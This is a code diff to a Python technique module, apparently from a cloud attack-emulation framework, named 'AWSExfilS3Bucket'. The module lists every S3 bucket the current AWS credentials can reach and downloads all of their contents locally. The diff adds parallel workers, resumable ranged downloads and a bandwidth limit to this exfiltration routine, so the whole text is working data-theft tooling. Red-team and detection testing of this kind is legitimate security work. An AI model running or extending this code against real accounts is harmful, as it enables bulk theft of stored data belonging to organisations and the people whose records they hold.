@@ -5,6 +5,7 @@ import boto3
 from botocore.exceptions import ClientError
 import os
 from attack_techniques.aws.aws_enumerate_s3_buckets import AWSEnumerateS3Buckets
+from core.transfer.download_engine import DownloadEngine, DownloadTask
 
 @TechniqueRegistry.register
 class AWSExfilS3Bucket(BaseTechnique):
@@ -21,39 +22,46 @@ class AWSExfilS3Bucket(BaseTechnique):
 
     def execute(self, **kwargs: Any) -> Tuple[ExecutionStatus, Dict[str, Any]]:
         self.validate_parameters(kwargs)
-        def download_objects(s3_client, bucket_name, local_directory):
+        def download_objects(s3_client, bucket_name, local_directory, engine):
             """Download all objects from a given bucket, preserving folder structure."""
-            try:
-                # Ensure the local directory exists
-                os.makedirs(local_directory, exist_ok=True)
+            def object_tasks():
+                try:
+                    # List all objects in the bucket
+                    paginator = s3_client.get_paginator('list_objects_v2')
+                    for page in paginator.paginate(Bucket=bucket_name):
+                        for obj in page.get('Contents', []):
+                            # Get the object key - full path in the bucket
+                            key = obj['Key']
 
-                # List all objects in the bucket
-                paginator = s3_client.get_paginator('list_objects_v2')
-                for page in paginator.paginate(Bucket=bucket_name):
-                    for obj in page.get('Contents', []):
-                        # Get the object key - full path in the bucket
-                        key = obj['Key']
-                        
-                        # Create the full local file path
-                        local_file_path = os.path.join(local_directory, key)
-                        
-                        # Confirm the directory exists
-                        os.makedirs(os.path.dirname(local_file_path), exist_ok=True)
-                        
-                        # Check if the object is a folder
-                        if key.endswith('/'):
-                            print(f"Creating directory: {local_file_path}")
-                            os.makedirs(local_file_path, exist_ok=True)
-                        else:
-                            # Download the file
-                            print(f"Downloading {key} from {bucket_name}")
-                            s3_client.download_file(bucket_name, key, local_file_path)
-            except ClientError as e:
-                print(f"Error downloading objects from {bucket_name}: {e}")
+                            # Create the full local file path
+                            local_file_path = os.path.join(local_directory, key)
+
+                            # Check if the object is a folder
+                            if key.endswith('/'):
+                                print(f"Creating directory: {local_file_path}")
+                                os.makedirs(local_file_path, exist_ok=True)
+                                continue
+
+                            # Ranged reads of the object, downloaded by the engine
+                            def fetch(start=None, end=None, key=key):
+                                range_args = {"Range": f"bytes={start}-{end}"} if start is not None else {}
+                                response = s3_client.get_object(Bucket=bucket_name, Key=key, **range_args)
+                                return response['Body'].iter_chunks(1024 * 1024)
+
+                            yield DownloadTask(key=key, local_path=local_file_path, fetch=fetch, size=obj.get('Size'), version=obj.get('ETag'))
+                except ClientError as e:
+                    print(f"Error downloading objects from {bucket_name}: {e}")
+
+            # Ensure the local directory exists
+            os.makedirs(local_directory, exist_ok=True)
+            print(f"Downloading objects from {bucket_name}")
+            return engine.download(object_tasks())
 
         try:
             bucket_name: str = kwargs.get("bucket_name", None)
-            # Ref: https://boto3.amazonaws.com/v1/documentation/api/latest/reference/services/s3/client/download_file.html
+            max_workers: int = kwargs.get("max_workers", DownloadEngine.DEFAULT_MAX_WORKERS) or DownloadEngine.DEFAULT_MAX_WORKERS
+            bandwidth_limit: int = kwargs.get("bandwidth_limit", None)
+            # Ref: https://boto3.amazonaws.com/v1/documentation/api/latest/reference/services/s3/client/get_object.html
             # Initialize boto3 client
             my_client = boto3.client("s3")
 
@@ -79,19 +87,28 @@ class AWSExfilS3Bucket(BaseTechnique):
                 buckets = [bucket_name]
 
             base_download_path = "./output/s3_bucket_download/"
-            
+            transfer_stats = {}
+
             for bucket in buckets:
                 print(bucket)
                 # Create local download path with bucket name
                 download_path = os.path.join(base_download_path, bucket)
-                # Download bucket objects
-                download_objects(my_client, bucket, download_path)
+                # Download bucket objects, skipping objects already downloaded by a previous run
+                engine = DownloadEngine(
+                    download_path,
+                    max_workers=max_workers,
+                    max_bytes_per_second=bandwidth_limit * 1024 * 1024 if bandwidth_limit else None
+                )
+                transfer_stats[bucket] = download_objects(my_client, bucket, download_path, engine)
+
+            failed = sum(stats["failed"] for stats in transfer_stats.values())
 
-            return ExecutionStatus.SUCCESS, {
-                "message": f"Successfully exfiltrated S3 buckets",
+            return ExecutionStatus.SUCCESS if failed == 0 else ExecutionStatus.PARTIAL_SUCCESS, {
+                "message": f"Successfully exfiltrated S3 buckets" if failed == 0 else f"Exfiltrated S3 buckets - {failed} objects failed to download",
                 "value": {
                     "totals_bucket_exfiltrated" : len(buckets),
-                    "exfil_path" : base_download_path
+                    "exfil_path" : base_download_path,
+                    "transfer_stats" : transfer_stats
                 }
             }
         except Exception as e:
@@ -102,5 +119,7 @@ class AWSExfilS3Bucket(BaseTechnique):
 
     def get_parameters(self) -> Dict[str, Dict[str, Any]]:
         return {
-            "bucket_name": {"type": "str", "required": False, "default": "All", "name": "S3 Bucket Name", "input_field_type" : "text"}
+            "bucket_name": {"type": "str", "required": False, "default": "All", "name": "S3 Bucket Name", "input_field_type" : "text"},
+            "max_workers": {"type": "int", "required": False, "default": DownloadEngine.DEFAULT_MAX_WORKERS, "name": "Max Parallel Downloads", "input_field_type" : "number"},
+            "bandwidth_limit": {"type": "int", "required": False, "default": None, "name": "Bandwidth Limit (MB/s)", "input_field_type" : "number"}
         }
\ No newline at end of file